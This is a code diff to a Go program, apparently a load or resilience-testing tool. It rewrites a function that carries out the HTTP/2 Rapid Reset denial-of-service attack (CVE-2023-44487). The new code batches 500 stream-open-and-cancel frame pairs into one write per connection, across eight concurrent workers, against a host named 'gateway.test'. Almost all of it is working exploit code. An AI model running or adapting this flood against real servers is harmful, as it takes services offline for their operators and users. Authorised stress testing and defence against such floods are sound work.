@@ -197,9 +197,10 @@ func slowBodies(ctx context.Context, at string, bandwidth *rate.Limiter) {
 	all.Wait()
 }
 
-// resets opens streams over HTTP/2 and takes each back at once (CVE-2023-44487).
+// resets opens streams over HTTP/2 and takes each back at once (CVE-2023-44487): as many in one
+// write as a connection is likely to be let, and then another connection.
 func resets(ctx context.Context, at string, bandwidth *rate.Limiter) {
-	var block bytes.Buffer
+	var block, flood bytes.Buffer
 	enc := hpack.NewEncoder(&block)
 	for _, h := range [][2]string{
 		{":method", "GET"}, {":scheme", "http"}, {":authority", "gateway.test"}, {":path", "/api/v2/peatio/account/x"},
@@ -207,30 +208,25 @@ func resets(ctx context.Context, at string, bandwidth *rate.Limiter) {
 	} {
 		enc.WriteField(hpack.HeaderField{Name: h[0], Value: h[1], Sensitive: true})
 	}
+	flood.WriteString(http2.ClientPreface)
+	framer := http2.NewFramer(&flood, nil)
+	framer.WriteSettings()
+	for stream := range uint32(500) {
+		framer.WriteHeaders(http2.HeadersFrameParam{
+			StreamID: 2*stream + 1, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true,
+		})
+		framer.WriteRSTStream(2*stream+1, http2.ErrCodeCancel)
+	}
 	var all sync.WaitGroup
 	for range 8 {
 		all.Go(func() {
 			for ctx.Err() == nil {
-				stream := uint32(1)
-				var framer *http2.Framer
 				keep(ctx, at, func(conn net.Conn, answers *bufio.Reader) bool {
-					if framer == nil {
-						framer = http2.NewFramer(conn, answers)
-						io.WriteString(conn, http2.ClientPreface)
-						framer.WriteSettings()
-						go io.Copy(io.Discard, answers)
+					if spend(ctx, bandwidth, flood.Len()) == nil {
+						conn.Write(flood.Bytes())
+						io.Copy(io.Discard, answers) // until it is closed
 					}
-					if spend(ctx, bandwidth, block.Len()+22) != nil {
-						return false
-					}
-					err := framer.WriteHeaders(http2.HeadersFrameParam{
-						StreamID: stream, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true,
-					})
-					if err == nil {
-						err = framer.WriteRSTStream(stream, http2.ErrCodeCancel)
-					}
-					stream += 2
-					return err == nil && stream < 1<<20
+					return false
 				})
 			}
 		})
